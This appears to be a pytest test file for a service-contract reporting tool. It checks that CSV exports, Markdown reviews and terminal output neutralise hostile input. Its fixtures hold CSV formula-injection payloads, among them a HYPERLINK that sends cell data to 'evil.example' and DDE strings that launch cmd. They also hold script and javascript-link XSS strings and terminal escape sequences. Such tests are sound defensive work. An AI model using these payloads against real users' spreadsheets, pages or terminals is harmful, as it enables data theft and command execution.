"""Text from inputs in what people open: spreadsheets, Markdown, terminals, PDFs."""

from __future__ import annotations

import csv
import io
import os
import stat
from pathlib import Path

import pytest

from slaschema.textsafe import csv_cell, md_text, rich_text, terminal_text
from tests.hostile.conftest import cli

REPO = Path(__file__).resolve().parents[2]
CONTRACT = REPO / "examples" / "gb200-contract.yaml"
LOG = REPO / "examples" / "gb200-incidents-2027Q1.csv"

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|" /C calc"!A0', "-2+3+cmd|' /C calc'!A0",
            '@SUM(1+1)*cmd|" /C calc"!A0', "\t=1+1", "\r=1+1"]
HTML = '<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1))'


def _hostile_log(tmp_path: Path, long: bool = False) -> Path:
    rows = list(csv.reader(LOG.open(encoding="utf-8")))
    ci, ii = rows[0].index("cause"), rows[0].index("id")
    for i, f in enumerate(FORMULAS, start=1):
        rows[i][ci] = f
    rows[len(FORMULAS) + 1][ci] = HTML
    if long:
        rows[len(FORMULAS) + 2][ci] = "cause " * 250                   # 1,500 characters
        rows[len(FORMULAS) + 3][ii] = "X" * 1500
    p = tmp_path / "log.csv"
    with p.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    return p


def _formula_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row if c and c[0] in "=+-@\t\r"
            and not c.replace(".", "", 1).lstrip("-+").isdigit()]


def test_csv_cell_rule():
    assert [csv_cell(f) for f in FORMULAS[:-1]] == ["'" + f for f in FORMULAS[:-1]]
    assert csv_cell(FORMULAS[-1]) == "<U+000D>=1+1"        # a CR is shown, so nothing is left to run
    assert csv_cell("-1.5") == "-1.5" and csv_cell("+3") == "+3" and csv_cell(12) == 12
    assert csv_cell("GPU fell off the bus") == "GPU fell off the bus"


def test_review_appendix_csvs_are_neutralised(tmp_path):
    out = tmp_path / "review.pdf"
    r = cli("review", CONTRACT, _hostile_log(tmp_path), "--quarter", "2027-Q1", "-o", out, "--register-limit", "1")
    assert r.exit_code == 0, r.output
    register = (tmp_path / "review.incidents.csv").read_text(encoding="utf-8")
    assert _formula_cells((tmp_path / "review.node-credits.csv").read_text(encoding="utf-8")) == []
    assert _formula_cells(register) == []
    cells = {c for row in csv.reader(io.StringIO(register)) for c in row}
    for f in FORMULAS[:4]:                      # (leading TAB/CR are trimmed by the log reader)
        assert "'" + f in cells


def test_credits_csv_is_neutralised_and_raw_csv_turns_it_off(tmp_path):
    log = tmp_path / "log.csv"
    log.write_text("id,scope,target,start,end,impact,category\n"
                   "I1,node,r01-n01,2027-01-05T03:00:00Z,2027-01-05T04:00:00Z,down,unplanned\n", encoding="utf-8")
    r = cli("credits", CONTRACT, log, "--period", "2027-01", "--format", "csv")
    assert r.exit_code == 0 and _formula_cells(r.stdout) == []
    from slaschema import textsafe

    textsafe.set_raw_csv(True)
    try:
        assert csv_cell("=1") == "=1"
    finally:
        textsafe.set_raw_csv(None)


def test_import_csv_output_is_neutralised(tmp_path):
    export = tmp_path / "export.csv"
    export.write_text("Number,Level,Configuration item,Fault start,Restored,Type,Priority,Detected,Opened,"
                      "First response,Closed,Customer notified,Short description\n"
                      'INC1,Node,r01-n01,01/05/2027 03:00,01/05/2027 04:00,Incident,P1 - Critical,,,,,,'
                      '"=HYPERLINK(""http://evil"")"\n', encoding="utf-8")
    out = tmp_path / "log.csv"
    r = cli("import", "csv", export, "--map", REPO / "examples" / "ticket-map.yaml", "-o", out)
    assert r.exit_code == 0, r.output
    assert _formula_cells(out.read_text(encoding="utf-8")) == []
    assert cli("--raw-csv", "import", "csv", export, "--map", REPO / "examples" / "ticket-map.yaml",
               "-o", out).exit_code == 0
    assert _formula_cells(out.read_text(encoding="utf-8")) != []


def test_watch_log_is_neutralised(tmp_path):
    sinfo = tmp_path / "bin" / "sinfo"
    sinfo.parent.mkdir()
    sinfo.write_text('#!/bin/sh\necho "gpu01|down|2027-01-05T03:00:00|=HYPERLINK(1)"\n'
                     'echo "gpu02|drained|0001-01-01T00:00:00|@SUM(1)"\n')
    sinfo.chmod(sinfo.stat().st_mode | stat.S_IEXEC)
    out = tmp_path / "watch.csv"
    env = {"PATH": f"{sinfo.parent}{os.pathsep}{os.environ['PATH']}"}
    r = cli("watch", "--slurm", "--once", "-o", out, env=env)
    assert r.exit_code == 0, r.output
    assert "Traceback" not in r.output
    text = out.read_text(encoding="utf-8")
    assert "'=HYPERLINK(1)" in text and "'@SUM(1)" in text and _formula_cells(text) == []


def test_markdown_review_escapes_html_and_javascript_links(tmp_path):
    out = tmp_path / "review.md"
    r = cli("review", CONTRACT, _hostile_log(tmp_path), "--quarter", "2027-Q1", "-o", out)
    assert r.exit_code == 0, r.output
    text = out.read_text(encoding="utf-8")
    assert "<script" not in text and "<img" not in text and "](javascript:" not in text
    assert "&lt;script&gt;" in text


def test_md_text_rules():
    assert md_text("[ok](https://example.com)") == "[ok](https://example.com)"
    assert "javascript:" not in md_text("[x](javascript:alert(1))").replace("&#58;", "")
    assert md_text("a<b>c") == "a&lt;b&gt;c"


ANSI_TITLE = "Deal \x1b]0;pwned\x07\x1b[2J\x1b[31mred\x1b[0m [/bold] [link=file:///etc/passwd]x[/link]"


def test_show_strips_escapes_and_escapes_rich_markup(tmp_path):
    text = CONTRACT.read_text(encoding="utf-8")
    title_line = next(ln for ln in text.splitlines() if ln.strip().startswith("title:"))
    c = tmp_path / "c.yaml"
    c.write_text(text.replace(title_line, "  title: " + '"' + ANSI_TITLE.replace("\x1b", "\\e").replace("\x07", "\\a")
                              + '"'), encoding="utf-8")
    r = cli("show", c)
    assert r.exit_code == 0, r.output
    assert "\x1b" not in r.output and "\x07" not in r.output
    assert "[/bold]" in r.output                          # shown as text, not parsed as markup


def test_terminal_text_rules():
    assert terminal_text("a\x1b[31mb\x1b]8;;http://x\x07c\x1b]8;;\x07\x9b2Jd") == "abcd"
    assert rich_text("[/bold]") == "\\[/bold]"


def test_long_cause_and_id_do_not_break_the_review_pdf(tmp_path):
    import subprocess

    out = tmp_path / "review.pdf"
    r = cli("review", CONTRACT, _hostile_log(tmp_path, long=True), "--quarter", "2027-Q1", "-o", out)
    assert r.exit_code == 0, r.output
    text = subprocess.run(["pdftotext", str(out), "-"], capture_output=True, text=True).stdout \
        if _has("pdftotext") else _pypdf_text(out)
    assert "more characters]" in text.replace("\n", " ")


def _has(tool: str) -> bool:
    import shutil

    return shutil.which(tool) is not None


def _pypdf_text(path: Path) -> str:
    from pypdf import PdfReader

    return "".join(p.extract_text() for p in PdfReader(str(path)).pages)


@pytest.mark.parametrize("n", [1500, 20000])
def test_no_input_text_length_makes_a_table_fail(tmp_path, n):
    from calculators.reports import doc as d
    from calculators.reports.pdf import render_pdf

    t = d.Table(header=("id", "cause"), rows=[("X" * n, "word " * (n // 5))], widths=(1, 3))
    document = d.Document(title="t", subtitle=None, footer="f", blocks=(d.Heading("H" * n, 1), t))
    data = render_pdf(document)
    assert data.startswith(b"%PDF")


def test_credits_table_shows_incident_ids_with_markup_and_escapes_as_text(tmp_path):
    rows = list(csv.reader(LOG.open(encoding="utf-8")))
    ii, ei = rows[0].index("id"), rows[0].index("end")
    rows[1][ii], rows[1][ei] = "[/bold]\x1b]0;pwned\x07", ""            # an open incident: listed by id
    log = tmp_path / "log.csv"
    with log.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    r = cli("credits", CONTRACT, log, "--period", "2027-01")
    assert r.exit_code == 0 and "unexpected_error" not in r.output, r.output
    assert "[/bold]" in r.output and "\x1b" not in r.output and "\x07" not in r.output


def test_credits_table_keeps_an_id_with_a_line_break_on_one_line(tmp_path):
    """A JSON log may hold an id with a line break (a CSV may not: `csv_invalid`,
    tests/incidents/test_csv_lines.py); the table shows it on one line."""
    import json

    rows = list(csv.reader(LOG.open(encoding="utf-8")))
    ii, ei = rows[0].index("id"), rows[0].index("end")
    rows[1][ii], rows[1][ei] = "INC-1\nX", ""            # an open incident: listed by id, in the table too
    log = tmp_path / "log.jsonl"
    log.write_text("".join(json.dumps({k: v for k, v in zip(rows[0], row) if v}) + "\n" for row in rows[1:]),
                   encoding="utf-8")
    r = cli("credits", CONTRACT, log, "--period", "2027-01")
    assert r.exit_code == 0, r.output
    shown = [line for line in r.output.splitlines() if "INC-1" in line]
    assert shown and all("INC-1<U+000A>X" in line for line in shown)
    assert not any(line.strip(" │") == "X" for line in r.output.splitlines())
